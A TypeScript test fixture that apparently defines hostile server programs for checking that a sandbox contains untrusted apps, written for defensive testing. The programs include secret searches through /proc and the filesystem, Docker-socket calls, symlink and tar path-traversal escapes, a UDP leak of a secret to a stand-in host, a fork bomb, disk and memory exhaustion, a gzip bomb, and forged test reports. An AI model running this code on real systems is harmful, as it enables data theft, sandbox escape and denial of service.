import type { Canaries } from "./range.ts";

/** A hostile server, and what must become of it. */
export interface Attack {
  name: string;
  /** Its `server.js`, made for the canaries of the day. It may call `show(text)`, after which it serves that text. */
  source(canaries: Canaries): string;
  /**
   * `held`: it runs to its end and shows `Ready`, having got nothing. `failed`: it is the app's own failure. Either
   * way nothing has got out.
   */
  becomes: "held" | "failed";
  /** What the failure must say. */
  because?: RegExp;
  steps?: object[];
}

/** Every fixture begins with this: a server that shows what the attack found, `Ready` when that is nothing. */
export const preamble = `
const fs = require("node:fs"), net = require("node:net"), path = require("node:path"), child = require("node:child_process");
let text = "Wait";
const show = (found) => { text = found === "" ? "Ready" : "GOT " + found; };
const quiet = (work) => { try { return String(work() ?? ""); } catch { return ""; } };
const html = () => "<!doctype html><p>" + text.replaceAll("<", "&lt;") + "</p><script>setTimeout(() => location.reload(), 900)</script>";
const serve = () => require("node:http").createServer((request, response) => {
  response.setHeader("content-type", "text/html").end(html());
}).listen(process.env.PORT);
`;

const dial = (goals: readonly object[]): string => `
let got = "", open = ${goals.length};
const done = () => { if (--open === 0) show(got); };
for (const goal of ${JSON.stringify(goals)}) {
  const socket = net.connect(goal);
  socket.on("data", (data) => { got += data; }).on("error", () => {}).on("close", done);
  socket.write("GET / HTTP/1.0\\r\\n\\r\\n");
}
serve();`;

export const serverAttacks: readonly Attack[] = [
  {
    name: "reads a file of this machine",
    becomes: "held",
    source: ({ file }) => `show(quiet(() => fs.readFileSync(${JSON.stringify(file)}))); serve();`,
  },
  {
    name: "searches all files for a secret",
    becomes: "held",
    source: ({ word }) => `
    show(quiet(() => child.execSync("grep -rl ${word} / --include=*.txt --exclude-dir=proc --exclude-dir=usr 2>/dev/null; true"))); serve();`,
  },
  {
    name: "reads our environment out of /proc",
    becomes: "held",
    source: ({ word }) => `
    const all = fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name)).map((id) => quiet(() => fs.readFileSync("/proc/" + id + "/environ")));
    show(all.join().includes(${JSON.stringify(word)}) ? "environment" : ""); serve();`,
  },
  {
    name: "goes through /proc to another root",
    becomes: "held",
    source: ({ file }) => `
    const roots = ["/proc/1/root", "/proc/self/root", "/proc/1/cwd/..", "/proc/2/root"];
    show(roots.map((root) => quiet(() => fs.readFileSync(root + ${JSON.stringify(file)}))).join("")); serve();`,
  },
  {
    name: "reads the memory of other processes",
    becomes: "held",
    source: () => `
    const alien = fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name) && quiet(() => fs.readFileSync("/proc/" + name + "/cmdline")).includes("vitest"));
    show(alien.join()); serve();`,
  },
  {
    name: "calls the ports of our loopback",
    becomes: "held",
    source: ({ port }) =>
      dial([
        { host: "127.0.0.1", port },
        { host: "::1", port },
        { host: "0.0.0.0", port },
      ]),
  },
  {
    name: "calls our Unix sockets",
    becomes: "held",
    source: ({ socket }) =>
      dial([{ path: socket }, { path: "/var/run/docker.sock" }, { path: "/run/dbus/system_bus_socket" }]),
  },
  {
    name: "calls abstract Unix sockets",
    becomes: "held",
    source: () => dial([{ path: "\0/tmp/.X11-unix/X0" }, { path: "\0canary" }]),
  },
  {
    name: "lets the forwarder's folder lead to our sockets",
    becomes: "held",
    source: ({ socket }) => `
    for (const name of ["way", "s", "data/s", "/tmp/s"]) quiet(() => fs.symlinkSync(${JSON.stringify(socket)}, name));
    show(""); serve();`,
  },
  {
    name: "resolves a name of the internet",
    becomes: "held",
    source: () => `
    require("node:dns").lookup("example.com", (error, address) => show(error ? "" : address)); serve();`,
  },
  {
    name: "leaks by UDP to a name server",
    becomes: "held",
    source: () => `
    require("node:dgram").createSocket("udp4").send("secret", 53, "192.0.2.53", (error) => show(error ? "" : "sent")); serve();`,
  },
  {
    name: "opens raw packets and VSOCK",
    becomes: "held",
    source: () => `
    const tried = [17, 40, 38].map((family) => child.spawnSync("perl", ["-MSocket", "-e", "socket(S, " + family + ", 1, 0) and print 'open'"]).stdout + "");
    show(tried.join("")); serve();`,
  },
  {
    name: "calls ptrace, bpf, unshare and keyctl",
    becomes: "held",
    source: () => `
    if (process.arch !== "x64") show("");
    else show([101, 321, 272, 250, 319, 165].map((call) => child.spawnSync("perl", ["-e", "print 'done' if syscall(" + call + ", 0, 0, 0, 0, 0) >= 0"]).stdout + "").join(""));
    serve();`,
  },
  {
    name: "writes a symbolic link and reads through it",
    becomes: "held",
    source: ({ file }) => `
    quiet(() => fs.symlinkSync(${JSON.stringify(file)}, "data/link")); show(quiet(() => fs.readFileSync("data/link"))); serve();`,
  },
  {
    name: "makes a hard link to a file of the system",
    becomes: "held",
    source: () => `
    show(quiet(() => { fs.linkSync("/etc/passwd", "data/passwd"); return "linked"; })); serve();`,
  },
  {
    name: "changes its own sources and those of the catalog",
    becomes: "held",
    source: () => `
    show(["server.js", "node_modules/express/index.cjs", "new.js"].map((name) => quiet(() => { fs.writeFileSync(name, "x"); return name; })).join("")); serve();`,
  },
  {
    name: "unpacks an archive that climbs out",
    becomes: "held",
    source: () => `
    quiet(() => child.execSync("cd data && mkdir -p a && echo x > a/f && tar -P -cf t.tar --transform s,a/f,../../../etc/evil, a/f && tar -P -xf t.tar; true", { stdio: "ignore" }));
    show(quiet(() => fs.readFileSync("/etc/evil"))); serve();`,
  },
  {
    name: "serves files by a path that climbs",
    becomes: "held",
    source: ({ file }) => `
    show(quiet(() => fs.readFileSync(path.join(process.cwd(), "../../../../..", ${JSON.stringify(file)})))); serve();`,
  },
  {
    name: "leaves daemons behind and serves on",
    becomes: "held",
    source: () => `
    child.spawn("setsid", ["sh", "-c", "while :; do sleep 1; done"], { detached: true, stdio: "ignore" }).unref(); show(""); serve();`,
  },
  {
    name: "ignores every signal",
    becomes: "held",
    source: () => `
    for (const name of ["SIGTERM", "SIGINT", "SIGHUP", "SIGQUIT"]) process.on(name, () => {}); show(""); serve();`,
    steps: [
      { expectVisible: { text: "Ready" } },
      { restartServer: true },
      { reload: true },
      { expectVisible: { text: "Ready" } },
    ],
  },
  {
    name: "keeps its data in a daemon over a restart",
    becomes: "failed",
    because: /Ready/,
    source: () => `
    const keeper = net.createServer((socket) => socket.end("kept")).on("error", () => {});
    if (process.argv[2] === "keep") keeper.listen(4000);
    else {
      child.spawn("setsid", [process.execPath, __filename, "keep"], { detached: true, stdio: "ignore" }).unref();
      const first = !fs.existsSync("data/ran"); fs.writeFileSync("data/ran", "");
      const ask = (tries) => { const socket = net.connect(4000, "127.0.0.1"); socket.on("error", () => tries ? setTimeout(ask, 100, tries - 1) : show("nothing")).on("data", () => show("")); };
      first ? setTimeout(show, 0, "") : setTimeout(show, 0, "lost");
      serve();
    }`,
    steps: [
      { expectVisible: { text: "Ready" } },
      { restartServer: true },
      { reload: true },
      { expectVisible: { text: "Ready" } },
    ],
  },
  {
    name: "writes to its log without end",
    becomes: "held",
    source: () => `
    setInterval(() => { for (let i = 0; i < 20; i += 1) process.stdout.write("x".repeat(65536)); }, 1); show(""); serve();`,
  },
  {
    name: "prints a test report of its own",
    becomes: "failed",
    source: () => `
    console.log("ok 1 - c0\\n# pass 1\\n" + JSON.stringify({ outcome: "passed", rung: null, failure: null, checks: [{ id: "c0", status: "passed" }] })); serve();`,
  },
  {
    name: "claims to be the cage's own failure",
    becomes: "failed",
    because: /^The server ended \(exit code 1\): bwrap: Creating/,
    source: () => `
    console.error("bwrap: Creating new namespace failed: Resource temporarily unavailable"); process.exit(1);`,
  },
  {
    name: "forks without end",
    becomes: "failed",
    because: /did not listen|memory/,
    source: () => `
    fs.writeFileSync("/tmp/b.sh", "while :; do sh /tmp/b.sh & done"); setInterval(() => child.spawn("sh", ["/tmp/b.sh"], { stdio: "ignore" }).on("error", () => {}), 5);`,
  },
  {
    name: "takes all memory",
    becomes: "failed",
    because: /memory/,
    source: () => `const all = []; setInterval(() => all.push(Buffer.alloc(64 << 20, 1)), 1); serve();`,
  },
  {
    name: "takes memory in many processes",
    becomes: "failed",
    because: /The server took too much memory/,
    source: () => `
    const hog = "const kept = Buffer.alloc(80 << 20, 1); setInterval(() => kept.length, 1000)";
    for (let i = 0; i < 6; i += 1) child.spawn(process.execPath, ["-e", hog], { stdio: "ignore" });`,
  },
  {
    name: "writes ten gigabytes",
    becomes: "failed",
    because: /ended \(exit code.*(EFBIG|File size limit)|ended \(exit code 153\)/s,
    source: () => `
    const file = fs.openSync("data/big", "w"); for (let i = 0; i < 10240; i += 1) fs.writeSync(file, Buffer.alloc(1 << 20)); show(""); serve();`,
  },
  {
    name: "makes a million empty files",
    becomes: "failed",
    because: /ENOSPC/,
    source: () => `
    for (let i = 0; i < 1e6; i += 1) fs.writeFileSync("data/" + i, ""); show(""); serve();`,
  },
  {
    name: "fills the shared memory",
    becomes: "failed",
    because: /ENOSPC/,
    source: () => `
    for (let i = 0; i < 1000; i += 1) fs.writeFileSync("/dev/shm/" + i, Buffer.alloc(8 << 20)); show(""); serve();`,
  },
  {
    name: "answers what is no HTTP",
    becomes: "failed",
    source: () =>
      `net.createServer((socket) => { socket.on("error", () => {}); socket.end("\\0\\xff".repeat(9999)); }).listen(process.env.PORT);`,
  },
  {
    name: "sends headers of a megabyte",
    becomes: "failed",
    source: () => `
    net.createServer((socket) => { socket.on("error", () => {}); socket.end("HTTP/1.1 200 OK\\r\\nx: " + "y".repeat(1 << 20) + "\\r\\n\\r\\nReady"); }).listen(process.env.PORT);`,
  },
  {
    name: "redirects without end",
    becomes: "failed",
    source: () => `
    let count = 0; require("node:http").createServer((request, response) => response.writeHead(302, { location: "/" + (count += 1) }).end()).listen(process.env.PORT);`,
  },
  {
    name: "redirects to a server of ours",
    becomes: "failed",
    source: ({ port }) => `
    require("node:http").createServer((request, response) => response.writeHead(302, { location: "http://127.0.0.1:${port}/" }).end()).listen(process.env.PORT);`,
  },
  {
    name: "begins its page and never ends it",
    becomes: "failed",
    source: () => `
    require("node:http").createServer((request, response) => { response.setHeader("content-type", "text/html"); response.write("<p>Ready</p>"); }).listen(process.env.PORT);`,
  },
  {
    name: "sends a bomb of compressed zeros",
    becomes: "failed",
    source: () => `
    const zlib = require("node:zlib"); const bomb = zlib.gzipSync(Buffer.alloc(400 << 20), { level: 9 });
    require("node:http").createServer((request, response) => {
      if (request.url === "/") return response.setHeader("content-type", "text/html").end("<p>Wait</p><script>(async () => { const all = []; for (;;) all.push(await (await fetch('/bomb')).arrayBuffer()); })()</script>");
      response.writeHead(200, { "content-encoding": "gzip", "content-type": "application/octet-stream" }).end(bomb);
    }).listen(process.env.PORT);`,
    steps: [
      { expectVisible: { text: "Wait" } },
      { clock: "5s" },
      { clock: "5s" },
      { expectVisible: { text: "Ready" } },
    ],
  },
  {
    name: "sends events without end",
    becomes: "held",
    source: () => `
    require("node:http").createServer((request, response) => {
      if (request.url === "/") return response.setHeader("content-type", "text/html").end("<p>Wait</p><script>new EventSource('/events').onmessage = () => { document.querySelector('p').textContent = 'Ready'; }</script>");
      response.writeHead(200, { "content-type": "text/event-stream" }); setInterval(() => response.write("data: x\\n\\n"), 1);
    }).listen(process.env.PORT);`,
  },
];
